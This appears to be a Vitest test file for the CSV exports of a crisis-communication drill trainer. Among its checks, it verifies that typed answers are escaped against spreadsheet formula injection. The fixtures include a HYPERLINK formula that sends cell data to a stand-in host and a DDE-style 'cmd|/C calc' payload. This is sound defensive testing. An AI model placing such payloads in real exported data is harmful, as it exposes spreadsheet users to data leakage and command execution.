import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { SKILL_IDS } from '../../src/core/skills.ts';
import { BEAT_COLUMNS, beatsCsv, DRILL_COLUMNS, drillsCsv } from '../../src/records/csv.ts';
import { sampleRecord, sampleRecords } from '../fixtures/debrief/records.ts';

function rows(csv: string): Record<string, string>[] {
  const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

describe('CSV exports', () => {
  const records = sampleRecords();

  it('has one row per drill with the scores per skill, read back as written', () => {
    const back = rows(drillsCsv(records, 'vi'));
    expect(Object.keys(back[0]!)).toEqual([...DRILL_COLUMNS]);
    expect(back).toHaveLength(records.length);
    back.forEach((row, i) => {
      const r = records[i]!;
      expect(row.drill_id).toBe(r.id);
      expect(row.trainee).toBe(r.trainee);
      expect(row.scenario).toBe('Lũ và tin đồn vỡ đập');
      expect(Number(row.overall)).toBeCloseTo(r.score.overall, 1);
      for (const skill of SKILL_IDS) {
        const s = r.score.skills.find((x) => x.skill === skill);
        expect(row[skill]).toBe(s ? String(Math.round(s.percent * 10) / 10) : '');
      }
    });
    expect(back.map((r) => r.answer_time_factor)).toEqual(['off', '1', 'off']);
  });

  it('has one row per question asked, in the chosen language, with typed text intact', () => {
    const back = rows(beatsCsv(records, 'en'));
    expect(Object.keys(back[0]!)).toEqual([...BEAT_COLUMNS]);
    expect(back).toHaveLength(records.reduce((n, r) => n + r.beats.length, 0));
    const typed = back.filter((r) => r.response === 'text').map((r) => r.answer);
    // Commas, quotes and a line break survive the quoting.
    expect(typed[1]).toBe('Chưa xác nhận, "đang xác minh",\nsẽ báo lại');
    expect(back[0]!.question).toBe('Will the dam burst?');
    expect(back[0]!.answer).toBe('No. The dam was inspected this morning.');
    expect(back[0]!.choice).toBe('2');
    expect(back[0]!.accuracy).toBe('2');
    expect(back[2]!.timeliness).toBe('-2');
  });

  it('keeps a typed formula from running in a spreadsheet', () => {
    const back = rows(beatsCsv(records, 'vi'));
    const formula = back.find((r) => r.answer?.includes('HYPERLINK'))!;
    expect(formula.answer?.startsWith("'=")).toBe(true);
  });

  it('keeps a formula from running when the cell also holds a line break, on any line', () => {
    const typed = ['=HYPERLINK("http://x.example/?"&A1,"open")\nchưa xác nhận', 'chưa xác nhận\r\n+1+cmd|/C calc', 'ok\r@SUM(1)', '\n-2+3'];
    const hostile = typed.map((text, i) => sampleRecord(10 + i, `=trainee ${i}\n@x`, text));
    for (const csv of [beatsCsv(hostile, 'vi'), drillsCsv(hostile, 'vi')]) {
      const cells = rows(csv).flatMap((row) => Object.values(row));
      const lines = cells.flatMap((cell) => cell.split(/\r\n|\n|\r/));
      expect(lines.filter((line) => /^[=+\-@\t\r]/.test(line) && !/^-?\d+(\.\d+)?$/.test(line))).toEqual([]);
    }
    const answers = rows(beatsCsv(hostile, 'vi'))
      .filter((r) => r.response === 'text')
      .map((r) => r.answer);
    expect(answers).toEqual(['\'=HYPERLINK("http://x.example/?"&A1,"open")\nchưa xác nhận', "chưa xác nhận\r\n'+1+cmd|/C calc", "ok\r'@SUM(1)", "'\n'-2+3"]);
  });

  it('writes header words in the reader’s language when given them', () => {
    const csv = drillsCsv(records, 'vi', (c) => (c === 'trainee' ? 'Học viên' : c));
    expect(csv.split('\r\n')[0]).toContain('Học viên');
  });

  it("says a question skipped by the facilitator was skipped, in the reader's words, with no points", () => {
    const record = sampleRecord(0);
    const skipped = { ...record, beats: [{ ...record.beats[0]!, response: 'skipped' as const, answer: null, choice: null, points: {}, choseBest: false }] };
    const words = (c: string) => (c === 'skipped' ? 'Người điều phối bỏ qua (không tính điểm)' : c);
    const [row] = rows(beatsCsv([skipped], 'vi', words));
    expect(row!.response).toBe('skipped');
    expect(row!.answer).toBe('Người điều phối bỏ qua (không tính điểm)');
    for (const skill of SKILL_IDS) expect(row![skill]).toBe('');
  });
});
